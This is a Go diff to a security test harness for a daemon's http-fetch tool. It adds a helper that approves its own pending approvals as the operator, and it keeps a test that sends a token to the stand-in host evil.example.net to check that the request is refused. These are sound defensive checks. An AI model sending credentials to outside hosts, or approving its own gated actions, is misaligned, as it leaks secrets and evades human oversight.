@@ -154,7 +154,7 @@ max_redirects = 3
 	} {
 		for _, path := range []string{"/v1/items", "/fail", "/redirect"} {
 			body := map[string]json.RawMessage{"input": json.RawMessage(fmt.Sprintf(in, base+path))}
-			_, b, err := p.do(ctx, http.MethodPost, "/v1/skills/palyra.http_fetch/tools/palyra.http_fetch/call", body)
+			b, err := approvedFetch(ctx, p, body)
 			if err != nil {
 				return nil, err
 			}
@@ -162,8 +162,7 @@ max_redirects = 3
 		}
 	}
 	// A host outside the grant: refused by the broker.
-	_, b, err = p.do(ctx, http.MethodPost, "/v1/skills/palyra.http_fetch/tools/palyra.http_fetch/call",
-		map[string]json.RawMessage{"input": json.RawMessage(`{"url":"http://evil.example.net/","use_token":true}`)})
+	b, err = approvedFetch(ctx, p, map[string]json.RawMessage{"input": json.RawMessage(`{"url":"http://evil.example.net/","use_token":true}`)})
 	if err != nil {
 		return nil, err
 	}
@@ -228,6 +227,32 @@ type r7Output struct {
 
 // fetchArtifact signs the http-fetch example with its grant pointed at
 // 127.0.0.1 (the local server R7 runs).
+// approvedFetch calls the http-fetch example's tool, which is
+// default_sensitive: the daemon answers 202 with a pending approval, which
+// this approves as the operator before calling again with it. It returns
+// the last answer's body (each answer is searched for the secret too).
+func approvedFetch(ctx context.Context, p *daemonProc, body map[string]json.RawMessage) ([]byte, error) {
+	const path = "/v1/skills/palyra.http_fetch/tools/palyra.http_fetch/call"
+	code, b, err := p.do(ctx, http.MethodPost, path, body)
+	if err != nil || code != http.StatusAccepted {
+		return b, err
+	}
+	var pending struct {
+		Pending struct {
+			ID string `json:"id"`
+		} `json:"pending"`
+	}
+	if err := json.Unmarshal(b, &pending); err != nil || pending.Pending.ID == "" {
+		return nil, fmt.Errorf("R7: a 202 without a pending approval: %s", b)
+	}
+	if _, _, err := p.do(ctx, http.MethodPost, "/v1/approvals/"+pending.Pending.ID+"/approve", map[string]string{"reason": "R7"}); err != nil {
+		return nil, err
+	}
+	body["approval_id"] = json.RawMessage(fmt.Sprintf("%q", pending.Pending.ID))
+	_, b2, err := p.do(ctx, http.MethodPost, path, body)
+	return append(b, b2...), err
+}
+
 func (e *env) fetchArtifact() ([]byte, error) {
 	dir, err := examplebuild.Dir("http-fetch")
 	if err != nil {
